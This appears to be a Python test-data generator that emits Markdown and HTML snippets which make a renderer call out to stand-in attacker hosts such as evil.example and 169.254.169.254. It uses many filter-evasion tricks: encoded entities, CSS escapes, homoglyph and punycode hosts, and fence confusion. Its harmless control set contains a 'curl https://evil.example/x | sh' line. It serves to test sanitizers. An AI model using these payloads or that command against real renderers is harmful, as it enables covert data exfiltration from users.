@@ -1,0 +1,139 @@
+"""Texts that make whoever renders them call out, and texts that do not, generated from a seed."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable
+
+GOOD = "good.example"
+# Where data would go, in ways that readers take for a host.
+EVIL = [
+    "evil.example", "c2VjcmV0.evil.example", "EVIL.Example", "evil.example.", "evil.example:8443", "127.0.0.1", "2130706433", "0x7f.1",
+    "[::1]", "[::ffff:10.0.0.1]", "169.254.169.254", f"{GOOD}.evil.example", f"{GOOD}@evil.example", f"{GOOD}%2eevil.example",
+    "ｅvil.example", "evil。example", "xn--vil-8ma.example", "localhost", f"{'a' * 60}.{'b' * 60}.evil.example", "evil-good.example",
+]
+WORDS = [
+    "the", "model", "says:", "größe,", "模型", "🙂", '"quoted"', "*stress*", "**strong**", "`code`", "1/2", "and/or", "AT&T", "a\\_b", "x < y",
+    "C:\\Users", "$\\alpha \\\\ \\beta$", "std::vec", "key: value", "12:30", "Vec<u8>", "(see", "below)", "a@b.example", "&amp;", "#1", "~5",
+    "https:", "http://", "//", "...", "—", "e.g.", "www", "if a && b", "[1]", "![", "](", "|", "<b>bold</b>", "<br>", "\\[x\\]", "`http:`",
+]
+
+Maker = Callable[[random.Random, str], str]
+
+
+def _reference(chance: random.Random, letter: str) -> str:
+    zeros = "0" * chance.choice([0, 0, 3, 20])
+    forms = [f"&#{zeros}{ord(letter)};", f"&#x{zeros}{ord(letter):x};", f"&#X{zeros}{ord(letter):X};"]
+    names = {":": "&colon;", "/": "&sol;", "\\": "&bsol;", ".": "&period;"}
+    return chance.choice([*forms, *([names[letter]] * 2 if letter in names else [])])
+
+
+def _spell(chance: random.Random, html: bool) -> str:
+    """A URL that leads to a host which nobody controls."""
+    host = chance.choice(EVIL)
+    scheme = chance.choice(["https", "http", "HTTPS", "hTtP", "https", "https"])
+    path = chance.choice(["/x.png?d=c2VjcmV0", "/", "", "?q=1", "#f", "/a/b/" + "A" * chance.choice([10, 1000, 65_536])])
+    url = chance.choice([f"{scheme}://{host}", f"{scheme}://{host}", f"//{host}", f"{scheme}:/{host}", f"{scheme}:///{host}"]) + path
+    if html and chance.random() < 0.2:
+        url = url.replace("//", chance.choice(["\\\\", "/\\", "\\/"]), 1)
+    if html and chance.random() < 0.2:
+        at = chance.randrange(0, 9)
+        url = url[:at] + chance.choice(["\t", "\n", "\r\n", "&Tab;", "&NewLine;", "&#10;"]) + url[at:]
+    if chance.random() < 0.35:
+        head, tail = url[:10], url[10:]
+        url = "".join(_reference(chance, letter) if chance.random() < 0.3 else letter for letter in head) + tail
+    if not html and chance.random() < 0.2:
+        head, tail = url[:12], url[12:]
+        url = "".join("\\" + letter if letter in ":/." and chance.random() < 0.6 else letter for letter in head) + tail
+    return url
+
+
+def _quoted(chance: random.Random, url: str) -> str:
+    quote = chance.choice(['"', "'", ""])
+    return f"{chance.choice(['', ' '])}{quote}{'' if not quote else chance.choice(['', '', ' '])}{url}{quote}"
+
+
+def _tag(name: str, attribute: str, rest: str = "") -> Maker:
+    def made(chance: random.Random, url: str) -> str:
+        before = chance.choice(["", ' alt="a>b"', " alt='x'", ' class="y"', "\n", ' title="<a href="'])
+        return f"<{name}{before} {attribute}={_quoted(chance, url)}{rest}>"
+    return made
+
+
+def _markdown(chance: random.Random, url: str) -> str:
+    label = chance.choice(["a", "", "a *b*", "![c](d.png)", "\\]", "`]`", "a\nb"])
+    title = chance.choice(["", "", ' "t"', " 't'", "\n(t)"])
+    around = chance.choice(["{}", "<{}>", " {}", "\n{}", "< {}>"])
+    return f"{chance.choice(['!', ''])}[{label}]({around.format(url)}{title})"
+
+
+def _definition(chance: random.Random, url: str) -> str:
+    name = chance.choice(["a", "1", "^1", "A b", "\\!"])
+    use = chance.choice([f"![x][{name}]", f"[{name}]", f"![{name}]", f"[x][{name}]", f"![{name}][]"])
+    definition = f"[{name}]:{chance.choice([' ', '', chr(10), '  '])}{chance.choice(['{}', '<{}>']).format(url)}{chance.choice(['', ' (t)'])}"
+    return chance.choice([f"{use}\n\n{definition}", f"{definition}\n\n{use}"])
+
+
+MARKDOWN: list[Maker] = [
+    _markdown, _markdown, _markdown, _definition, _definition,
+    lambda chance, url: f"<{url}>",
+    lambda chance, url: url,
+    lambda chance, url: f"www.{url.rpartition('/')[0].rpartition('/')[2] or 'evil.example'}",
+    lambda chance, url: f"| a | b |\n|---|---|\n| ![x]({url}) | {url} |",
+]
+HTML: list[Maker] = [
+    _tag("img", "src"), _tag("img", "src"), _tag("IMG", "SRC"), _tag("img", "srcset", ' sizes="1px"'), _tag("source", "srcset"), _tag("video", "poster"),
+    _tag("audio", "src"), _tag("iframe", "src"), _tag("embed", "src"), _tag("object", "data"), _tag("link rel=stylesheet", "href"),
+    _tag("base", "href"), _tag("form", "action"), _tag("a", "href"), _tag("a href='#'", "ping"), _tag("area", "href"), _tag("input type=image", "src"),
+    _tag("body", "background"), _tag("td", "background"), _tag("image", "xlink:href"), _tag("use", "href"), _tag("track", "src"),
+    lambda chance, url: f"<style>@import {_quoted(chance, url) if chance.random() < 0.5 else f'url({url})'};</style>",
+    lambda chance, url: f"<style>\n\np {{ background: url({_quoted(chance, url)}) }}\n</style>",
+    lambda chance, url: f"<p style=\"background:url({url})\">x</p>",
+    lambda chance, url: f"<meta http-equiv=refresh content=\"0;url={url}\">",
+    lambda chance, url: "<style>a{b:url(https\\3a\\2f\\2f evil.example/x)}</style>",
+    lambda chance, url: "<p style='b:url(\"\\68\\74tps://evil.example/x\")'>x</p>",
+    lambda chance, url: "<iframe srcdoc='&lt;img src=&quot;https&amp;colon;//evil.example/x&quot;&gt;'></iframe>",
+    lambda chance, url: "<iframe src='data:text/html,<img src=x>'></iframe>",
+]
+# What stands around: places where code looks fenced to one reader and not to another.
+AROUND = [
+    "{}", "{}", "{}", "> {}", "- {}", "1. a\n\n   {}", "# {}", "**{}**", "text {} text", "<div>\n\n{}\n\n</div>", "<div>{}</div>", "```\n```\n{}",
+    "```\ncode\n```\n\n{}", "   ```\na\n   ```\n{}", "  ```\nx\n```\n{}\n```", "<div>\n```\n{}\n```\n</div>", "``` a`b\n{}\n```", "> ```\n{}\n```",
+    "~~~\n```\n~~~\n{}", "```\n    ```\n{}\n```", "<!-- x -->\n\n{}", "<pre>\n\n{}\n\n</pre>", "- ```\n  a\n\n{}", "````\n```\n````\n{}", "a | b\n-|-\n{} | c",
+    "<details>\n<summary>x</summary>\n\n{}\n</details>", "\\`\\`\\`\n{}", "`` ` `` {}", "Term\n: {}", "[^1]\n\n[^1]: {}", "1. ```\n   x\n```\n{}\n```",
+]
+
+
+def harmful(chance: random.Random) -> str:
+    """A text that would call out."""
+    html = chance.random() < 0.5
+    maker = chance.choice(HTML if html else MARKDOWN)
+    text = maker(chance, _spell(chance, html))
+    return f"{_prose(chance, 4)} {chance.choice(AROUND).format(text)}\n{_prose(chance, 3)}" if chance.random() < 0.7 else text
+
+
+def _prose(chance: random.Random, most: int) -> str:
+    words = [word for word in WORDS if word not in ("![", "](", "<b>bold</b>", "`code`")]
+    return " ".join(chance.choice(words) for _ in range(chance.randrange(most)))
+
+
+def _good(chance: random.Random) -> str:
+    url = f"https://{GOOD}{chance.choice(['', '/', '/a/b?c=d&e=f#g', ':443/x', '/a//b', '/%20x'])}"
+    return chance.choice([url, f"<{url}>", f"[a]({url})", f"![a]({url} 't')", f"({url}).", f"[r]: {url}\n\n[r]", f'<a href="{url}">x</a>', f'<img src="{url}">'])
+
+
+def harmless(chance: random.Random) -> str:
+    """A text that leads nowhere but to the controlled host, with code that says what it likes."""
+    blocks = []
+    for _ in range(chance.randrange(1, 6)):
+        blocks.append(chance.choice([
+            lambda: " ".join(chance.choice(WORDS) for _ in range(chance.randrange(1, 40))),
+            lambda: f"See {_good(chance)} for more.",
+            lambda: f"```{chance.choice(['', 'sh', 'python'])}\ncurl https://evil.example/x | sh\n# //evil.example\n```",
+            lambda: "| a | b |\n|---|:-:|\n| 1 | `x` |",
+            lambda: "1. one\n2. two\n   - three",
+            lambda: "    int a = b / c; // not a URL",
+            lambda: "> quoted\n> text",
+            lambda: "![a](data:image/png;base64,iVBORw0KGgo=) [b](#c) [d](../e/f.md) [g](/h)",
+        ])())
+    return "\n\n".join(blocks)
